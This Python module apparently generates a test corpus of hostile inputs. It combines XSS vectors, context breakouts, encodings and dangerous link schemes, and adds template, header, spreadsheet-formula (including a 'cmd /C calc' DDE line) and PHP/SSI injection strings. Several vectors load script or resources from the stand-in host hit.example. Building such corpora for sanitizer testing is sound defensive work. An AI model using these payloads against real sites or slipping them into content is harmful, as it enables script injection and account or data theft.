"""Hostile texts, made from a table: each vector in each context, written in each of several encodings.

A vector is what would run or fetch; a context is what it must break out of; an encoding is how it hides. All call
`hit()` or ask for HIT_HOST, which is what a browser that was fooled would do.
"""

from html import escape
from itertools import product
from urllib.parse import quote

HIT_HOST = "hit.example"
CALL = "hit(1)"
VECTORS = (
    f"<script>{CALL}</script>",
    f"<script src=//{HIT_HOST}></script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script>",
    f"<math><a xlink:href=javascript:{CALL}>a",
    f"<iframe srcdoc='<script>top.{CALL}</script>'>",
    f"<object data=//{HIT_HOST}>",
    f"<body onpageshow={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<style>@import '//{HIT_HOST}'</style>",
    f"<link rel=stylesheet href=//{HIT_HOST}>",
    f"<base href=//{HIT_HOST}>",
    f"<meta http-equiv=refresh content=0;url=//{HIT_HOST}>",
    f"<form action=//{HIT_HOST}><button autofocus>",
    f"<a href=javascript:{CALL}>a</a>",
    f"<video><source onerror={CALL}>",
    f"<template><img src=x onerror={CALL}>",
    f"<p style=background:url(//{HIT_HOST})>",
    f"<img srcset=//{HIT_HOST}/a>",
    f"<embed src=//{HIT_HOST}>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><use href=//{HIT_HOST}#a>",
    f"<isindex type=image src=x onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<a href=//{HIT_HOST} ping=//{HIT_HOST}>a</a>",
    f"<img/src=x/onerror={CALL}//",
)
CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    "-->{}",
    "]]>{}",
    "</script>{}",
    "</title>{}",
    "</textarea>{}",
    "`{}`",
    "{{{{ '{}'|safe }}}}",
    '\\"}}];{}//',
)
ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java&#9;script:{CALL}",
    f" javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"//{HIT_HOST}/a",
    f"/\\{HIT_HOST}/a",
    f"\\\\{HIT_HOST}/a",
    f"http://[{HIT_HOST}",
    f"blob:{CALL}",
    f"filesystem:{CALL}",
    f"view-source:{CALL}",
)
LINKS = (
    "[a]({})",
    "[a](<{}>)",
    "![a]({})",
    "<{}>",
    "<a href='{}'>a</a>",
    "[a][1]\n\n[1]: {}",
    '[a](https://a.example "{}")',
    "<img src='{}'>",
)
WORDS = (
    "{% for x in site %}{{ x }}{% endfor %}",
    "{{ site.__class__.__mro__ }}",
    "${hit(1)}",
    "#{hit(1)}",
    "%0d%0aX-Hit: 1",
    "::error file=x::hit",
    '=HYPERLINK("//hit.example")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "<!--#exec cmd=hit -->",
    "<?php hit(1) ?>",
    "<![CDATA[<script>hit(1)</script>]]>",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&#x202e;hit&#x200b;",
    "*[hit]: <script>hit(1)</script>",
    "<b>bold</b><br>%{x}<extra></extra>",
)


def _encodings(text: str) -> tuple[str, ...]:
    """The text as it is, as entities, in capitals, as a part of an address, and with its brackets doubled."""
    return (text, escape(text), text.upper().replace("HIT(", "hit("), quote(text), text.replace("<", "<<"))


def make_payloads() -> list[str]:
    """Every hostile text once; none is longer than a title may be."""
    made = [context.format(vector) for vector, context in product(VECTORS, CONTEXTS)]
    made += [hidden for vector in VECTORS for hidden in _encodings(vector)[1:]]
    made += [link.format(address) for link, address in product(LINKS, ADDRESSES)]
    made += [*ADDRESSES, *WORDS]
    return [one for one in dict.fromkeys(made) if len(one) <= 120]
